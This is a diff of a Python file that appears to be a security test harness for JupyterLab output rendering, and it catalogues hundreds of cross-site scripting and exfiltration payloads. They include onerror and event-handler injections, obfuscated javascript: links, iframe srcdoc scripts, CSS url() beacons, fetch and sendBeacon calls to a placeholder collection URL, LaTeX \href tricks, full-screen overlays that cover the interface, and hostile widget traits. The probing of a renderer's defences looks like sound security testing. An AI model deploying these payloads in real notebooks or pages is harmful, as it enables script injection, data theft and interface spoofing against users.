@@ -46,12 +46,15 @@ def view(made):
 
 def page(data):
     ip.payload_manager.write_payload({'source': 'page', 'data': data, 'start': 0})
+
+elsewhere = display('another cell', display_id=True)
 """
 
-# Whether an output covers Lab's menu.
+# Whether an output covers the notebook, from corner to corner. (Lab draws nothing of a notebook outside its panel.)
 COVERS = """output => {
-    const bar = document.querySelector('#jp-MainMenu, #menu-panel').getBoundingClientRect();
-    return document.elementsFromPoint(bar.x + bar.width / 2, bar.y + bar.height / 2).some(e => output.contains(e));
+    const all = document.querySelector('.jp-NotebookPanel:not(.lm-mod-hidden) .jp-Notebook').getBoundingClientRect();
+    return [all.top + 12, all.bottom - 12].every(
+        y => document.elementsFromPoint(all.left + 12, y).some(e => output.contains(e)));
 }"""
 
 
@@ -96,13 +99,18 @@ def script(name: str) -> str:
     return f"eval(atob(`{base64.b64encode(_SCRIPT.replace('NAME', name).encode()).decode()}`))"
 
 
+def widget(name: str, markup: str, act: str = "", **more: str | bool) -> Payload:
+    """Markup in a widget, whose links Lab leaves as they are."""
+    return Payload(name, f"display(w.HTML({markup!r}))", act, **more)  # type: ignore[arg-type]
+
+
 def html(name: str, markup: str, act: str = "", **more: str | bool) -> Payload:
     """Markup that is displayed."""
     return Payload(name, f"display(HTML({markup!r}))", act, **more)  # type: ignore[arg-type]
 
 
 _IMG = '<img src=x onerror="{js}">'
-_PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="
+_PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
 _PICTURE = f"<img src='{_PIXEL}'"
 
 ROUTES = [
@@ -119,12 +127,12 @@ ROUTES = [
     Payload("by-mime-with-parameter", f"bundle({{'text/html; charset=utf-8': '{_IMG}'}})", in_depth="Lab: unknown"),
     Payload("isolated", "bundle({'text/html': '<script>{js}</script>'}, **{'text/html': {'isolated': True}})"),
     Payload("isolated-svg", "bundle({'image/svg+xml': '<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{js}\"></svg>'},"
-            " **{'image/svg+xml': {'isolated': True}})"),
+            " **{'image/svg+xml': {'isolated': True}})", in_depth="Lab draws it as an image"),
     Payload("markdown-html", f"display(Markdown('''# A title\n\n{_IMG}'''))"),
     Payload("markdown-script", "display(Markdown('<script>{js}</script>'))"),
     Payload("markdown-image", "display(Markdown('![a picture]({url})'))"),
-    Payload("markdown-link", "display(Markdown('[click me](javascript:{js})'))", "click a"),
-    Payload("markdown-autolink", "display(Markdown('<javascript:{js}>'))", "click a"),
+    Payload("markdown-link", "display(Markdown('[click me](javascript:{js})'))", "click a", in_depth="a window of its own"),
+    Payload("markdown-autolink", "display(Markdown('<javascript:{js}>'))", "click a", in_depth="a window of its own"),
     Payload("markdown-table", f"display(Markdown('| a | b |\\n|---|---|\\n| 1 | {_IMG} |'))"),
     Payload("markdown-style", "display(Markdown('<style>#jp-top-panel { background: url({url}) }</style>'))"),
     Payload("markdown-mermaid", "display(Markdown('''```mermaid\n%%{init: {\"themeCSS\": \"* { background: url({url}) }\"}}%%\n"
@@ -143,7 +151,7 @@ ROUTES = [
             f"{{'text/html': '{_IMG}', 'text/plain': 'help'}}\nip.run_line_magic('pinfo', 'Thing')\n"
             "del ip.inspector.format_mime; ip.enable_html_pager = False"),
     Payload("inspect", "ip.enable_html_pager = True\nip.object_inspect_mime = lambda *a, **k: "
-            f"{{'text/html': '{_IMG}', 'text/plain': 'help'}}", "inspect len"),
+            "{'text/html': '<img src={url}>', 'text/plain': 'help'}", "inspect len"),
     Payload("complete", f"ip.Completer.custom_matchers.append(lambda c: {{'completions': [__import__('IPython').core.completer."
             f"SimpleCompletion('victim{_IMG}', type='{_IMG}')]}})", "complete vic", in_depth="Lab's completer sanitises"),
 ]
@@ -161,7 +169,7 @@ SCRIPTS = [
     html("iframe-srcdoc", "<iframe srcdoc='<script>{js}</script>'></iframe>"),
     html("iframe-srcdoc-escaped", "<iframe srcdoc='&lt;img src=x onerror={js}&gt;'></iframe>"),
     html("iframe-javascript", "<iframe src=\"javascript:{js}\"></iframe>"),
-    html("iframe-javascript-spaced", "<iframe src=\" &#1;java&Tab;scr&NewLine;ipt&colon;{js}\"></iframe>"),
+    widget("iframe-javascript-spaced", "<iframe src=\" &#1;java&Tab;scr&NewLine;ipt&colon;{js}\"></iframe>"),
     html("iframe-data", "<iframe src='data:text/html,<img src={url}>'></iframe>"),
     html("iframe-foreign", "<iframe src={url}></iframe>"),
     html("iframe-same-origin", "<iframe sandbox='allow-scripts allow-same-origin' srcdoc='<script>{js}</script>'></iframe>"),
@@ -184,7 +192,7 @@ _WAYS_OUT = {
     "location": "location = '{url}'",
     "location-of-parent": "parent.location = '{url}'",
     "location-of-top": "top.location = '{url}'",
-    "location-of-sibling": "for (let i = 0; i < 40 && i < parent.frames.length; i++) try { parent.frames[i].location = '{url}' } catch {}",
+    "location-of-sibling": "for (let i = 0; i < 40 && i < parent.frames.length; i++) try { parent.frames[i].location = '{url}' } catch {}",  # among them the one that is beside it
     "image": "new Image().src = '{url}'",
     "fetch": "fetch('{url}', {mode: 'no-cors'})",
     "beacon": "navigator.sendBeacon('{url}')",
@@ -200,16 +208,16 @@ _WAYS_OUT = {
     "frame-javascript": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'javascript:location = `{url}`'}))",
     "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(`{url}`, {mode: `no-cors`})'])))",
     "import": "import('{url}').catch(() => 0)",
-    "style": "document.body.append(Object.assign(document.createElement('style'), {textContent: 'body { background: url({url}) }'}))",
+    "style": "document.body.append(Object.assign(document.createElement('style'), {textContent: '.framed { background: url({url}) }'}))",
     "font": "new FontFace('x', 'url({url})').load().catch(() => 0)",
     "audio": "new Audio('{url}').play().catch(() => 0)",
     "report": "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'Content-Security-Policy', content: 'img-src *'})); new Image().src = '{url}'",
-    "blob": "location = URL.createObjectURL(new Blob(['<img src={url}>'], {type: 'text/html'}))",
+    "frame-blob": "document.body.append(Object.assign(document.createElement('iframe'), {src: URL.createObjectURL(new Blob(['<img src={url}>'], {type: 'text/html'}))}))",
     "parents-document": "parent.document.body.append(Object.assign(parent.document.createElement('img'), {src: '{url}'}))",
 }
-_LEAVES_THE_PAGE = {"location-of-sibling", "blob"}
+_SPOILS_THE_PAGE = {"report", "location-of-sibling", "location", "location-of-parent", "location-of-top", "refresh", "link", "form"}
 WAYS_OUT = [
-    html(f"out-by-{name}", f"<p>A frame</p><script>setTimeout(() => {{ {code} }}, 50)</script>", last=name in _LEAVES_THE_PAGE)
+    html(f"out-by-{name}", f"<p class=framed>A frame</p><iframe></iframe><script>setTimeout(() => {{ {code} }}, 50)</script>", last=name in _SPOILS_THE_PAGE)
     for name, code in _WAYS_OUT.items()
 ]
 
@@ -225,8 +233,6 @@ _HANDLERS = [
     html("on-error-of-video", "<video src=x onerror={js}></video>"),
     html("on-error-of-audio", "<audio src=x onerror={js}></audio>"),
     html("on-error-of-source", "<video><source src=x onerror={js}></video>"),
-    html("on-error-of-object", "<object data=/nowhere onerror={js}></object>"),
-    html("on-error-of-embed", "<embed src=/nowhere onload={js} onerror={js}>"),
     html("on-error-of-input", "<input type=image src=x onerror={js}>"),
     html("on-error-of-svg-image", "<svg><image href=x onerror={js} /></svg>"),
     html("on-error-of-track", "<video controls><track default src=x onerror={js}></video>"),
@@ -237,10 +243,9 @@ _HANDLERS = [
     html("on-transition", "<style>.tr { transition: color .01s } .tr:hover { color: red }</style><b class=tr ontransitionend={js}>hover</b>", "hover b"),
     html("on-begin", "<svg><animate onbegin={js} attributeName=x dur=1s /></svg>"),
     html("on-end", "<svg><set onend={js} attributeName=x dur=.01s /></svg>"),
-    html("on-marquee", "<marquee onstart={js} loop=1 width=10>x</marquee>"),
     html("on-focus", "<input onfocus={js}>", "click input"),
     html("on-autofocus", "<input autofocus onfocus={js}>", "click input"),
-    html("on-focus-in-svg", "<svg width=50 height=50><a tabindex=0 onfocus={js}><rect width=50 height=50 /></a></svg>", "click rect"),
+    html("on-focus-in-svg", "<svg width=50 height=50><a tabindex=0 onfocus={js}><rect width=50 height=50 /></a></svg>", "click a"),
     html("on-blur", "<input onblur={js}>", "key input"),
     html("on-click", "<b onclick={js}>click</b>", "click b"),
     html("on-double-click", "<b ondblclick={js}>click twice</b>", "dblclick b"),
@@ -263,10 +268,8 @@ _HANDLERS = [
     html("on-content-visibility", "<div style='content-visibility: auto' oncontentvisibilityautostatechange={js}>x</div>"),
     html("on-play", "<audio controls autoplay muted loop onplay={js} src='data:audio/wav;base64,UklGRiYAAABXQVZFZm10IBAAAAABAAEAgD4AAIA+AAABAAgAZGF0YQIAAACAgA=='></audio>"),
     html("on-unknown-tag", "<blink-tag tabindex=0 onfocusin={js}>x</blink-tag>", "click blink-tag"),
-    html("on-with-slashes", "<img/src=x/onerror={js}>"),
+    html("on-with-slashes", "<img/src='x'/onerror={js}>"),
     html("on-with-entities", "<img src=x onerror='&#101;&#118;al(1);{js}'>"),
-    html("on-with-no-end", "<img src=x onerror={js} "),
-    html("on-unclosed-quote", "<img alt='<x' src=x onerror={js} title='"),
     html("on-in-table", "<table><tr><td><img src=x onerror={js}></td></tr></table>"),
 ]
 
@@ -312,7 +315,7 @@ SHAPES = [html(f"shape-{name}", f"<img src={{url}}>{markup}") for name, markup i
 _NAMESPACES = [
     html("svg-link", "<svg width=50 height=50><a xlink:href='javascript:{js}'><rect width=50 height=50 /></a></svg>", "click rect"),
     html("svg-link-animated", "<svg width=50 height=50><a><rect width=50 height=50 /><animate attributeName=href values='javascript:{js}' dur=1s fill=freeze /></a></svg>", "click rect"),
-    html("svg-link-set", "<svg width=50 height=50><a href=#><rect width=50 height=50 /><set attributeName=xlink:href to='javascript:{js}' begin=0s /></a></svg>", "click rect"),
+    html("svg-link-set", "<svg width=50 height=50><a><rect width=50 height=50 /><set attributeName=href to='javascript:{js}' begin=0s /></a></svg>", "click rect"),
     html("svg-animated-handler", "<svg><set attributeName=onmouseover to={js} /><rect width=50 height=50 /></svg>", "hover rect", in_depth="handlers are not animated"),
     html("svg-image", "<svg><image href={url} /></svg>"),
     html("svg-image-xlink", "<svg><image xlink:href={url} /></svg>"),
@@ -332,6 +335,7 @@ _NAMESPACES = [
     html("math-html-inside", "<math><annotation-xml encoding=text/html><img src=x onerror={js}></annotation-xml></math>"),
 ]
 
+_NEW_WINDOW = "Lab opens links in a window that knows nothing of it"
 _ADDRESSES = [
     html("image", "<img src={url}>"),
     html("image-set", "<img srcset='{url} 1x'>"),
@@ -363,23 +367,22 @@ _ADDRESSES = [
     html("form-formaction", "<form><button formaction='javascript:{js}'>go</button></form>", "click button"),
     html("form-elsewhere", "<form id=form1 action={url} target=_blank></form><button form=form1>go</button>", "click button"),
     html("form-image", "<form action={url}><input type=image alt=go></form>", "click input"),
-    html("form-by-enter", "<form action={url}><input name=secret></form>", "enter input"),
-    html("link-javascript", "<a href='javascript:{js}'>click</a>", "click a"),
-    html("link-javascript-spaced", "<a href='&#14; java\tscr\nipt:{js}'>click</a>", "click a"),
-    html("link-javascript-entities", "<a href='&#106;avascript&colon;{js}'>click</a>", "click a"),
-    html("link-javascript-in-capitals", "<a href='JaVaScRiPt:{js}'>click</a>", "click a"),
-    html("link-javascript-blank", "<a target=_blank rel=opener href='javascript:opener.{js}'>click</a>", "click a"),
+    widget("link-javascript", "<a href='javascript:{js}'>click</a>", "click a"),
+    widget("link-javascript-spaced", "<a href='&#14; java\tscr\nipt:{js}'>click</a>", "click a"),
+    widget("link-javascript-entities", "<a href='&#106;avascript&colon;{js}'>click</a>", "click a"),
+    widget("link-javascript-in-capitals", "<a href='JaVaScRiPt:{js}'>click</a>", "click a"),
+    html("link-javascript-in-lab", "<a href='javascript:{js}'>click</a>", "click a", in_depth=_NEW_WINDOW),
+    html("link-javascript-blank", "<a target=_blank rel=opener href='javascript:opener.{js}'>click</a>", "click a", in_depth=_NEW_WINDOW),
     html("link-vbscript-data", "<a href='data:text/html,<img src={url}>'>click</a>", "click a", in_depth="no page may go to data:"),
     html("link-ping", "<a href='#x' ping={url}>click</a>", "click a"),
-    html("link-opener", "<a target=_blank rel=opener href='{url}/opener'>click</a>", "click a"),
-    html("link-named-window", "<a target=wanted href='{url}/opener'>click</a>", "click a"),
-    html("area", "<img usemap=#map1 width=90 height=90 src='" + _PIXEL + "'><map name=map1><area shape=default href='javascript:{js}'></map>", "click img"),
-    html("link-dragged", "<a href='javascript:{js}' draggable=true>drag me</a>", "click a"),
+    widget("link-opener", "<a target=_blank rel=opener href='{url}/opener'>click</a>", "click a"),
+    widget("link-named-window", "<a target=wanted href='{url}/opener'>click</a>", "click a"),
+    widget("area", "<img usemap=#map1 width=90 height=90 src='" + _PIXEL + "'><map name=map1><area shape=default href='javascript:{js}'></map>", "click area"),
     html("lab-command", "<a href=# data-commandlinker-command=docmanager:new-untitled data-commandlinker-args='{\"path\": \"\", \"type\": \"file\", \"ext\": \".{name}\"}'>click</a>", "click a"),
     html("lab-command-button", "<button data-commandlinker-command=docmanager:new-untitled data-commandlinker-args='{\"path\": \"\", \"type\": \"file\", \"ext\": \".{name}\"}'>click</button>", "click button"),
     Payload("lab-command-markdown", "display(Markdown('<b data-commandlinker-command=docmanager:new-untitled data-commandlinker-args=\\'{\"path\": \"\", \"type\": \"file\", \"ext\": \".{name}\"}\\'>click</b>'))", "click b"),
-    html("image-map-ping", "<img usemap=#map2 width=90 height=90 src='" + _PIXEL + "'><map name=map2><area shape=default href='#x' ping={url}></map>", "click img"),
-    html("speculation-rules", "<script type=speculationrules>{\"prefetch\": [{\"source\": \"list\", \"urls\": [\"{url}\"]}]}</script>"),
+    html("image-map-ping", "<img usemap=#map2 width=90 height=90 src='" + _PIXEL + "'><map name=map2><area shape=default href='#x' ping={url}></map>", "click area"),
+    html("speculation-rules", "<script type=speculationrules>{\"prefetch\": [{\"source\": \"list\", \"urls\": [\"{url}\"]}]}</script>", in_depth="switched off without a window"),
 ]
 
 _STYLES = [
@@ -396,7 +399,7 @@ _STYLES = [
     html("style-attribute-content", "<p style='content: url({url})'>x</p>"),
     html("style-attribute-border", "<p style='border: 9px solid; border-image: url({url}) 9'>x</p>"),
     html("style-attribute-mask", "<p style='-webkit-mask: url({url}); mask: url({url})'>x</p>"),
-    html("style-attribute-filter", "<p style='filter: url({url}#x)'>x</p>"),
+    html("style-attribute-filter", "<p style='filter: url({url}#x)'>x</p>", in_depth="only of the same origin"),
     html("style-attribute-shape", "<p style='float: left; shape-outside: url({url})'>x</p>"),
     html("style-attribute-variable", "<p style='--x: url({url}); background: var(--x)'>x</p>"),
     html("style-attribute-variable-unset", "<p style='background: var(--none, url({url}))'>x</p>"),
@@ -422,7 +425,6 @@ _STYLES = [
     html("style-keyframes", "<style>@keyframes k9 { from, to { background: url({url}) } } .s8 { animation: k9 9s }</style><p class=s8>x</p>"),
     html("style-property", "<style>@property --p9 { syntax: '*'; inherits: true; initial-value: url({url}) } .s9 { background: var(--p9) }</style><p class=s9>x</p>"),
     html("style-counter", "<style>@counter-style c9 { system: cyclic; symbols: url({url}) 'x' } .s10 { list-style: c9 }</style><ul class=s10><li>x</li></ul>", in_depth="Chromium's counters have no pictures"),
-    html("style-broken-out", "<style>.s11 { color: red; } </ style><style>.s11 { background: url({url}) }</style><p class=s11>x</p>"),
     html("style-scroll-timeline", "<style>@container (min-width: 1px) { .s12 { background: url({url}) } } .b12 { container-type: inline-size }</style><div class=b12><p class=s12>x</p></div>"),
 ]
 
@@ -437,7 +439,6 @@ _ELSEWHERE = {
     "nested": ("flood-color", "body { & #jp-MainMenu { flood-color: rgb(1, 2, 3) } }"),
     "by-has": ("stop-color", "body:has(.x) #jp-MainMenu, :root:has(*) #jp-MainMenu { stop-color: rgb(1, 2, 3) }"),
     "by-is": ("fill", ":is(body *, x):is(#jp-MainMenu) { fill: rgb(1, 2, 3) }"),
-    "after-brace": ("stroke", "} #jp-MainMenu { stroke: rgb(1, 2, 3) }"),
     "after-comment": ("border-block-end-color", "/*/*/ #jp-MainMenu { border-block-end-color: rgb(1, 2, 3) } /* */"),
     "of-root": ("border-block-start-color", ":root { --jp-layout-color1: red } html #jp-MainMenu { border-block-start-color: rgb(1, 2, 3) }"),
     "starting": ("border-inline-end-color", "@container (min-width: 0) { #jp-MainMenu { border-inline-end-color: rgb(1, 2, 3) } } @starting-style { #jp-MainMenu { opacity: .9 } } #jp-MainMenu { border-inline-end-color: rgb(1, 2, 3) }"),
@@ -460,7 +461,7 @@ _COVERS = [
     html("cover-fixed-by-style", f"<style>.c1 {{ position: fixed; {_ALL_OVER} }}</style><div class=c1>x</div>", proof=COVERS),
     html("cover-fixed-in-media", f"<style>@media all {{ .c2 {{ position: fixed; {_ALL_OVER} }} }}</style><div class=c2>x</div>", proof=COVERS),
     html("cover-fixed-before", f"<style>.c3::before {{ content: ''; position: fixed; {_ALL_OVER} }}</style><div class=c3>x</div>", proof=COVERS),
-    html("cover-fixed-by-animation", f"<style>@keyframes c4 {{ from, to {{ position: fixed }} }} .c4 {{ animation: c4 99s infinite; {_ALL_OVER} }}</style><div class=c4>x</div>", proof=COVERS, in_depth="position is animated, but not from: hold"),
+    html("cover-fixed-by-animation", f"<style>@keyframes c4 {{ from, to {{ position: fixed }} }} .c4 {{ animation: c4 99s infinite; {_ALL_OVER} }}</style><div class=c4>x</div>", proof=COVERS),
     html("cover-popover", f"<button popovertarget=pop2>open</button><div popover id=pop2 style='{_ALL_OVER}'>x</div>", "click button", proof=COVERS),
     html("cover-dialog", f"<button commandfor=dia1 command=show-modal>open</button><dialog id=dia1 style='{_ALL_OVER}; max-width: none; max-height: none'>x</dialog>", "click button", proof=COVERS),
     html("cover-class-of-lab", "<div class='jp-Dialog jp-mod-open' style='width: 100vw; height: 100vh; top: 0; left: 0'>x</div>", proof=COVERS),
@@ -475,19 +476,20 @@ SPOILING = [
     Payload(p.name, p.code, p.act, p.proof, last=True, in_depth=p.in_depth) for p in [*_OUTSIDE, *_COVERS]
 ]
 
+_SAFE = "Lab's MathJax has its safe extension"
 _LATEX = [
-    Payload("latex-href", r"display(Latex(r'$\href{javascript:{js}}{click}$'))", "click a"),
-    Payload("latex-href-http", r"display(Math(r'\href{javascript:{js}}{\text{click}}'))", "click a"),
-    Payload("latex-in-html", r"display(HTML(r'<p>$\href{javascript:{js}}{click}$</p>'))", "click a"),
-    Payload("latex-in-markdown", r"display(Markdown(r'$$\href{javascript:{js}}{click}$$'))", "click a"),
-    Payload("latex-in-label", r"display(w.Label(r'$\href{javascript:{js}}{click}$'))", "click a"),
-    Payload("latex-in-html-math", r"display(w.HTMLMath(r'$\href{javascript:{js}}{click}$'))", "click a"),
-    Payload("latex-in-description", r"display(w.Text(description=r'$\href{javascript:{js}}{click}$', layout=w.Layout(width='500px'), style={'description_width': '300px'}))", "click a"),
-    Payload("latex-style", r"display(Latex(r'$\style{background: url({url})}{x}$'))"),
-    Payload("latex-class", r"display(Latex(r'$\class{jp-Dialog}{x}$'))", proof=COVERS, last=True),
-    Payload("latex-require", r"display(Latex(r'$\require{html} \style{background: url({url})}{y}$'))"),
+    Payload("latex-href", r"display(Latex(r'$\href{javascript:{js}}{click}$'))", "click a", in_depth=_SAFE),
+    Payload("latex-href-http", r"display(Math(r'\href{javascript:{js}}{\text{click}}'))", "click a", in_depth=_SAFE),
+    Payload("latex-in-html", r"display(HTML(r'<p>$\href{javascript:{js}}{click}$</p>'))", "click a", in_depth=_SAFE),
+    Payload("latex-in-markdown", r"display(Markdown(r'$$\href{javascript:{js}}{click}$$'))", "click a", in_depth=_SAFE),
+    Payload("latex-in-label", r"display(w.Label(r'$\href{javascript:{js}}{click}$'))", "click a", in_depth=_SAFE),
+    Payload("latex-in-html-math", r"display(w.HTMLMath(r'$\href{javascript:{js}}{click}$'))", "click a", in_depth=_SAFE),
+    Payload("latex-in-description", r"display(w.Text(description=r'$\href{javascript:{js}}{click}$', layout=w.Layout(width='500px'), style={'description_width': '300px'}))", "click a", in_depth=_SAFE),
+    Payload("latex-style", r"display(Latex(r'$\style{background: url({url})}{x}$'))", in_depth=_SAFE),
+    Payload("latex-class", r"display(Latex(r'$\class{jp-Dialog}{x}$'))", proof=COVERS, last=True, in_depth=_SAFE),
+    Payload("latex-require", r"display(Latex(r'$\require{html} \style{background: url({url})}{y}$'))", in_depth=_SAFE),
     Payload("latex-unicode", r"display(Latex(r'$\unicode[x; background: url({url})]{x41}$'))"),
-    Payload("latex-bbox", r"display(Latex(r'$\bbox[background: url({url})]{x}$'))"),
+    Payload("latex-bbox", r"display(Latex(r'$\bbox[background: url({url})]{x}$'))", in_depth=_SAFE),
     Payload("latex-data", r"display(Latex(r'$\data{commandlinker-command=docmanager:new-untitled}{x}$'))", "click mjx-container", in_depth="not loaded"),
     Payload("latex-mmltoken", r"display(Latex(r'$\mmlToken{mi}[style=background:url({url})]{x}$'))", in_depth="MathJax names what may be set"),
     Payload("latex-image", r"display(Latex(r'$\includegraphics{{url}}$'))", in_depth="MathJax has none"),
@@ -507,8 +509,6 @@ _BUNDLES = [
     Payload("image-with-fallback", f"bundle({{'image/png': '', 'text/html': '{_IMG}'}})"),
     Payload("image-mime-broken", "bundle({'image/png': '\" onerror=\"{js}'})", in_depth="Lab sets an attribute"),
     Payload("image-object", "display(Image(url='{url}'))"),
-    Payload("image-object-breaking-out", "display(Image(url='\"><img src=x onerror={js}>', width='1\" onerror=\"{js}'))"),
-    Payload("audio-object", "display(Audio(url='{url}'))"),
     Payload("video-object", "display(Video('{url}'))"),
     Payload("image-metadata", "bundle({'image/png': 'R0lG'}, **{'image/png': {'width': '1\" onload=\"{js}'}})", in_depth="Lab sets an attribute"),
     Payload("pdf", "bundle({'application/pdf': base64.b64encode(b'<script>{js}</script>').decode()})", in_depth="Lab says that it is a PDF"),
@@ -521,7 +521,7 @@ _BUNDLES = [
     Payload("stream-link", "print('\\x1b]8;;javascript:{js}\\x07click me\\x1b]8;;\\x07 javascript:{js}')", "click a", in_depth="Lab links http only"),
     Payload("stream-colours", "print('\\x1b[31\"><img src={url}>m\\x1b[38;5;<img src={url}>mred\\x1b[0m')", in_depth="Lab writes text"),
     Payload("traceback", "class X(Exception): pass\ntry: raise X('<img src={url} onerror={js}>')\nexcept X: ip.showtraceback()", in_depth="Lab writes text"),
-    Payload("traceback-forged", "ip._showtraceback(X, '<img src={url} onerror={js}>', ['<img src={url} onerror={js}>\\x1b]8;;javascript:{js}\\x07click\\x1b]8;;\\x07'])", "click a", in_depth="Lab writes text"),
+    Payload("traceback-forged", "ip._showtraceback(ValueError, '<img src=x onerror={js}>', ['<img src=x onerror={js}>\\x1b]8;;javascript:{js}\\x07click\\x1b]8;;\\x07'])", "click a", in_depth="Lab writes text"),
     Payload("text-link", "bundle({'text/plain': 'javascript:{js} www.<img src={url}>'})", "click a", in_depth="Lab links http only"),
 ]
 
@@ -540,7 +540,7 @@ _WIDGETS = [
     Payload("widget-output-later", f"o = w.Output()\ndisplay(o)\no.append_display_data(HTML('{_IMG}'))"),
     Payload("widget-output-script", "display(w.Output(outputs=[{'output_type': 'execute_result', 'execution_count': 1, 'data': {'application/javascript': '{js}'}, 'metadata': {}}]))"),
     Payload("widget-output-with", f"o = w.Output()\ndisplay(o)\nwith o: display(HTML('{_IMG}'))"),
-    Payload("widget-output-updated", f"o = w.Output()\ndisplay(o)\nwith o: h = display('x', display_id=True)\nh.update(HTML('{_IMG}'))"),
+    Payload("widget-output-updated", f"o = w.Output()\ndisplay(o)\nwith o: h = display('x', display_id=True)\nh.update(HTML('{_IMG}'))", in_depth="Lab does not look for it there"),
     Payload("widget-output-in-output", f"inner = w.Output(outputs=[{{'output_type': 'display_data', 'data': {{'text/html': '{_IMG}'}}, 'metadata': {{}}}}])\no = w.Output()\ndisplay(o)\nwith o: display(inner)"),
     Payload("widget-description", "display(w.Text(description='<img src={url}>', description_allow_html=True))"),
     Payload("widget-description-later", "t = w.Checkbox(description='x')\ndisplay(t)\nt.description_allow_html = True\nt.description = '<img src={url}>'"),
@@ -564,8 +564,8 @@ _WIDGETS = [
     Payload("raw-version", f"view(model('HTMLModel', 'HTMLView', version='*', value='{_IMG}'))"),
     Payload("raw-buffer", "m = model('ImageModel', 'ImageView', format='url', width='', height='')\nview(m)\nm.send(data={'method': 'update', 'state': {}, 'buffer_paths': [['value']]}, buffers=[b'{url}'])"),
     Payload("raw-dom-classes", "view(model('HTMLModel', 'HTMLView', value='x', _dom_classes=['jp-Dialog', 'jp-mod-x']))", proof=COVERS, last=True),
-    Payload("raw-foreign-module", "view(model('AnyModel', 'AnyView', 'anywidget', '~0.9.*', _esm='export default { render() { {js} } }', _anywidget_id='x.y', _css=''))"),
-    Payload("raw-foreign-module-css", "view(model('AnyModel', 'AnyView', 'anywidget', '~0.9.*', _esm='export default { render({el}) { el.innerHTML = `<p>x</p>` } }', _anywidget_id='x.z', _css='body { background: url({url}) }'))"),
+    Payload("raw-foreign-module", "view(model('AnyModel', 'AnyView', 'anywidget', '*', _esm='export default { render() { {js} } }', _anywidget_id='x.y', _css=''))"),
+    Payload("raw-foreign-module-css", "view(model('AnyModel', 'AnyView', 'anywidget', '*', _esm='export default { render({el}) { el.innerHTML = `<p class=any>x</p>` } }', _anywidget_id='x.z', _css='.any { background: url({url}) }'))"),
     Payload("raw-foreign-view", "view(model('TextModel', 'AnyView', view_module='anywidget', _esm='export default { render() { {js} } }', _anywidget_id='x.w', _css=''))", in_depth="anywidget's view wants its own model"),
     Payload("raw-module-address", "view(model('X', 'Y', '{url}', '1.0.0'))", in_depth="Lab knows only what is registered"),
     Payload("raw-comm-module", "comm.create_comm(target_name='x', target_module='{url}', data={})", in_depth="Lab has no requirejs"),
@@ -588,32 +588,40 @@ RELOADED = [
 
 # Every string of every core widget, all of a widget's at once: no class of ipywidgets looks at them.
 EVERY_TRAIT = r"""
-def hostile(kind, key, value):
-    name = f'trait-{kind}-{key}'.lower().replace('_', '')
-    text = f'url({url}/{name})' if kind.endswith('Style') or kind == 'Layout' else f'<img src={url}/{name}>'
-    return [text] if isinstance(value, (list, tuple)) else text.encode() if isinstance(value, (bytes, memoryview)) else text
+LAYOUT_AND_STYLES = 'Style', 'Layout'
+CHOICES = 'orientation', 'format', 'button_style', 'bar_style', 'align', 'box_style'  # a view fails with others
+LISTS = '_options_labels', 'options', 'titles', 'icons', 'tooltips'
+shown = []
 
-def of_core(made):
-    return made._model_module in ('@jupyter-widgets/controls', '@jupyter-widgets/base', '@jupyter-widgets/output')
+def hostile(kind, trait, value):
+    address = '{url}/' + kind + '.' + trait
+    text = 'url(' + address + ')' if kind.endswith(LAYOUT_AND_STYLES) else '<img src=' + address + '>'
+    return [text] if isinstance(value, (list, tuple)) else text
 
-for _, kind in w.Widget.widget_types.items():
-    try: made = kind()
-    except Exception: continue
-    if not of_core(made): continue
-    state = made.get_state()
-    fixed = {'_model_name', '_model_module', '_model_module_version', '_view_name', '_view_module', '_view_module_version', '_view_count'}
-    strings = {k: v for k, v in state.items() if k not in fixed and k[:1] != '_' or k in ('_options_labels', '_titles')}
-    evil = {k: hostile(kind.__name__, k, v) for k, v in strings.items()
-            if isinstance(v, str) and not v.startswith('IPY_MODEL_') and k not in ('orientation', 'format', 'button_style', 'bar_style', 'align', 'box_style', 'indent', 'selection')
-            or v is None and kind.__name__.endswith(('Style', 'Layout')) or k in ('_options_labels', 'options', 'titles', 'icons', 'tooltips', 'accept')}
-    if 'description' in state: evil['description_allow_html'] = True
-    made.comm.send(data={'method': 'update', 'state': {k: v for k, v in evil.items() if k != 'value' or isinstance(v, str)}, 'buffer_paths': []})
-    if kind.__name__.endswith('Style'):
-        shown = model(state['_model_name'].replace('StyleModel', 'Model'), state['_model_name'].replace('StyleModel', 'View'), value='x', description='x', style='IPY_MODEL_' + made.model_id)
-        view(shown)
+for _, kind in w.widget._registry.items():
+    try:
+        made = kind()
+    except Exception:
+        continue
+    if not made._model_module.startswith('@jupyter-widgets/'):
+        continue
+    state, name = made.get_state(), kind.__name__
+    evil = {trait: hostile(name, trait, value) for trait, value in state.items()
+            if trait in LISTS or trait not in CHOICES and trait[0] != '_' and (
+                isinstance(value, str) and not value.startswith('IPY_MODEL_')
+                or value is None and name.endswith(LAYOUT_AND_STYLES))}
+    if 'description' in state:
+        evil['description_allow_html'] = True
+    made.comm.send(data={'method': 'update', 'state': evil, 'buffer_paths': []})
+    if name.endswith('Style') and name != 'Style':
+        of = state['_model_name'].replace('StyleModel', '')
+        of = {'Description': 'Text', 'Toggle': 'ToggleButton', 'Slider': 'IntSlider', 'Progress': 'IntProgress'}.get(of, of)
+        shown.append(model(of + 'Model', of + 'View', value='x', description='x', style='IPY_MODEL_' + made.model_id))
     elif state.get('_view_name'):
-        view(made.comm)
+        shown.append(made.comm)
+for it in shown[:40]: view(it)
 """
+MORE_TRAITS = ["for it in shown[40:80]: view(it)", "for it in shown[80:]: view(it)"]  # Lab shows 50 outputs of a cell
 
 PAYLOADS = [
     *ROUTES, *SCRIPTS, *WAYS_OUT, *_HANDLERS, *SHAPES, *_NAMESPACES, *_ADDRESSES, *_STYLES, *_LATEX, *_BUNDLES, *_WIDGETS,
